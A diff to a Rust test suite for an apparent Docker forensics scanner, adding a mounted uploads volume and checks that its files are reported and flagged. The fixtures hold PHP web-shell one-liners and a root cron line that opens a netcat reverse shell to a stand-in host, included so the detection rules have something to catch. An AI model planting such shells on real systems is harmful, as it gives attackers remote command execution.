@@ -38,7 +38,10 @@ fn build(dir: &Path, broken: bool) -> (String, String) {
             "Created": "2026-11-02T00:00:00Z", "Path": "httpd", "Args": [],
             "Config": {"Image": "web:1", "Cmd": ["httpd"]},
             "State": {"Running": true, "StartedAt": "2026-11-02T00:00:01Z"},
-            "Driver": "overlay2", "MountPoints": {},
+            "Driver": "overlay2",
+            "MountPoints": {"/var/www/uploads": {
+                "Type": "volume", "Name": "uploads", "Destination": "/var/www/uploads",
+                "Source": "/var/lib/docker/volumes/uploads/_data", "RW": true, "Driver": "local"}},
         }))
         .unwrap()
     };
@@ -54,6 +57,8 @@ fn build(dir: &Path, broken: bool) -> (String, String) {
         (format!("{d}/overlay2/{CACHE}/link"), b"ABCDEFGHIJKLMNOPQRSTUVWXYZ".to_vec()),
         (format!("{d}/overlay2/{MOUNT}-init/diff/etc/hosts"), vec![]),
         (format!("{d}/overlay2/{MOUNT}/diff/var/www/shell.php"), b"<?php system($_GET['c']); ?>".to_vec()),
+        (format!("{d}/overlay2/{MOUNT}/diff/var/www/uploads/.keep"), vec![]),
+        (format!("{d}/volumes/uploads/_data/cmd.php"), b"<?php passthru($_REQUEST['x']); ?>".to_vec()),
         (format!("{d}/overlay2/{MOUNT}/diff/var/spool/cron/crontabs/root"), b"* * * * * nc 10.9.9.9 4444 -e sh\n".to_vec()),
         (format!("{d}/containers/{CID}/config.v2.json"), c1),
         (format!("{d}/containers/{CID}/hostconfig.json"), br#"{"Privileged": true}"#.to_vec()),
@@ -135,8 +140,24 @@ fn a_data_root_gives_its_containers_changes_and_findings() {
         paths.contains(&"/var/www/shell.php") && paths.contains(&"/var/spool/cron/crontabs/root"),
         "{paths:?}"
     );
-    // The -init layer is applied, never reported as the container's change.
+    // The -init layer is applied, never reported as the container's change; nor is what is
+    // below a mount point.
     assert!(!paths.contains(&"/etc/hosts"), "{paths:?}");
+    assert!(!paths.iter().any(|p| p.starts_with("/var/www/uploads/")), "{paths:?}");
+    // The volume's files are reported on their own, at the mount point, and the rules see them.
+    let vol = b["data_root_changes"].as_array().unwrap().iter().find(|c| c["source"] == "volume").unwrap();
+    assert_eq!(vol["container"], CID);
+    assert_eq!(vol["changes"][0]["path"], "/var/www/uploads/cmd.php");
+    let shells: Vec<&Value> = b["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"].as_str().unwrap_or("").starts_with("file.webshell"))
+        .collect();
+    assert!(
+        shells.iter().any(|f| f.to_string().contains("/var/www/uploads/cmd.php")),
+        "the volume's web shell: {shells:?}"
+    );
     let rules: Vec<&str> =
         b["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
     assert!(rules.iter().any(|r| r.starts_with("file.webshell")), "{rules:?}");
@@ -150,7 +171,7 @@ fn a_data_root_gives_its_containers_changes_and_findings() {
     let arts = b["artifacts"].as_array().unwrap();
     let dirs: Vec<&str> =
         arts.iter().filter(|a| a["kind"] == "layer-dir").map(|a| a["path"].as_str().unwrap()).collect();
-    assert_eq!(dirs.len(), 4, "{dirs:?}");
+    assert_eq!(dirs.len(), 5, "{dirs:?}");
     assert!(arts.iter().all(|a| !a["path"].as_str().unwrap().contains("/diff/")));
     // The container's log is scanned as its log.
     assert!(arts.iter().any(|a| a["kind"] == "json-file-log"));
@@ -225,7 +246,10 @@ fn a_tar_of_the_root_reads_the_same() {
             .filter(|x| x["kind"] == "layer-dir")
             .map(|x| {
                 let p = x["path"].as_str().unwrap();
-                (p[p.find("overlay2").unwrap()..].to_string(), x["sha256"].as_str().unwrap_or("").to_string())
+                (
+                    p.trim_start_matches("var/lib/docker/").to_string(),
+                    x["sha256"].as_str().unwrap_or("").to_string(),
+                )
             })
             .collect()
     };
